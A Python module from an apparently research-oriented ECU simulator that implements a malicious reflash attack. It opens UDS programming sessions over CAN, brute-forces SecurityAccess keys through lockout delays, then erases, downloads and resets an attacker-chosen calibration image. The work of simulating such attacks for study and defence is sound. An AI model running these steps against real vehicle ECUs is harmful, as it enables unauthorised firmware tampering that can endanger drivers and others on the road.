"""A malicious reflash: a calibration image of the attacker's, sent with a key found by brute force.

The attacker is a UDS tester with the tick-driven client of :mod:`ecu_sim.tester.client` (the
download's requests take many ISO-TP frames, which the single-frame tester of the other attacks
does not send): the extended and programming sessions, SecurityAccess guessed as ``bruteforce``
does (a key counter from ``first``, the seed asked again every ``retry`` s while a delay
refuses it), then the erase, the image's download in blocks as long as the node grants, the
dependency check and an ECUReset, after which the node runs the image. Programming needs a truck
that stands, as the node checks; the attack waits for it (a refused programming session is asked
for again every ``retry`` s). On a node whose key is out of reach the lockout stops the attack
before a byte is written, and the calibration stays as it was.

Each request is a step of a generator that is sent the answer to the one before, so the
attack's order reads as the exchange itself; every frame it sends (a first frame, its
consecutive frames, the flow control for a long answer) is the attack's, and labelled so.
"""

from __future__ import annotations

from collections.abc import Generator, Sequence
from dataclasses import dataclass
from pathlib import Path

import can

from ecu_sim.attack.family import ADDRESS, ATTACKS, NOT_NEGATIVE, PATH, SOURCE_DIAG, Context, whole
from ecu_sim.attack.tick import Frames
from ecu_sim.calibration.files import read_image
from ecu_sim.calibration.layout import AREA_START, CalibrationError
from ecu_sim.registry.family import ParamError, param
from ecu_sim.runtime.ticks import ticks_in
from ecu_sim.tester.client import UdsClient, positive
from ecu_sim.uds.security import SEED_BYTES

#: a request, or a number of ticks to wait before the next; each is sent the answer (None: none)
Steps = Generator[bytes | int, bytes | None, None]
_DELAYED = frozenset({0x36, 0x37})


@dataclass(frozen=True)
class Reflash:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    file: str = param(PATH, missing="{kind} needs file=IMAGE (an .s19 or .hex image for the target's "
                      "node kind: ecu-sim calibration build)")
    first: int = param(whole(0, 0xFFFFFFFF), "0")
    retry: float = param(NOT_NEGATIVE, "1")

    def __post_init__(self) -> None:
        if self.retry <= 0:
            raise ParamError("retry must be above 0 s")


@ATTACKS.register("reflash", Reflash, "malicious reflash: the programming session, a key found by brute "
                  "force, then FILE's image erased in, downloaded, checked and started by an ECUReset")
def reflash(p: Reflash, at: Context) -> Frames:
    try:
        data = read_image(Path(p.file)).data
    except CalibrationError as exc:
        raise at.refuse(str(exc)) from None
    retry = max(1, ticks_in(p.retry, at.period_s))
    client = UdsClient(p.source, at.period_s)
    steps = _steps(data, p.first, retry)
    state: dict[str, int | None] = {"wait_until": None}
    started = [False]

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        for msg in heard:
            client.receive(msg.arbitration_id, msg.data)
        ended = client.finished(n)
        wait_until = state["wait_until"]
        due = (not started[0]) or ended is not None or (wait_until is not None and n >= wait_until)
        if due and not client.waiting:
            answer = None if ended is None else ended.answer
            started[0] = True
            state["wait_until"] = None
            step = _next(steps, answer)
            if isinstance(step, int):
                state["wait_until"] = n + step
            elif step is not None:
                client.request(p.target, step)
        return [can.Message(arbitration_id=can_id, data=payload, is_extended_id=True)
                for can_id, payload in client.tick(n)]
    return frames


def _next(steps: Steps, answer: bytes | None) -> bytes | int | None:
    try:
        return steps.send(answer)
    except StopIteration:
        return None


def _steps(image: bytes, first: int, retry: int) -> Steps:
    yield from _programming(retry)
    guess = first
    while True:
        answer = yield b"\x27\x01"
        if answer is not None and answer[:2] == b"\x67\x01":
            if answer[2:] == bytes(SEED_BYTES):
                break
            answer = yield b"\x27\x02" + (guess & 0xFFFFFFFF).to_bytes(SEED_BYTES, "big")
            guess += 1
            if answer is not None and answer[:2] == b"\x67\x02":
                break
        if answer is None or (answer[0] == 0x7F and answer[2] in _DELAYED):
            yield retry
        elif answer[0] == 0x7F and answer[2] in (0x7E, 0x7F):
            yield from _programming(retry)  # the session fell back: enter it again
    # refused anywhere from here: the image did not go in whole, and no reset starts it
    erase = b"\x31\x01\xff\x00"
    if not positive((yield erase), erase) or not (yield from _download(image)):
        return
    check = b"\x31\x01\xff\x01"
    if positive((yield check), check):
        yield b"\x11\x01"


def _programming(retry: int) -> Steps:
    """The extended, then the programming session, asked again while the node refuses (moving)."""
    while True:
        answer = yield b"\x10\x03"
        if positive(answer, b"\x10\x03"):
            answer = yield b"\x10\x02"
            if positive(answer, b"\x10\x02"):
                return
        yield retry


def _download(image: bytes) -> Generator[bytes | int, bytes | None, bool]:
    """RequestDownload of the image at the calibration area, the blocks the node grants, the exit;
    whether each was taken."""
    ask = b"\x34\x00\x44" + AREA_START.to_bytes(4, "big") + len(image).to_bytes(4, "big")
    answer = yield ask
    if answer is None or not positive(answer, ask) or len(answer) < 2 + (answer[1] >> 4):
        return False
    block = max(1, int.from_bytes(answer[2:2 + (answer[1] >> 4)], "big") - 2)  # less SID and counter
    for counter, offset in enumerate(range(0, len(image), block), start=1):
        transfer = bytes((0x36, counter & 0xFF)) + image[offset:offset + block]
        if not positive((yield transfer), transfer):
            return False
    return positive((yield b"\x37"), b"\x37")
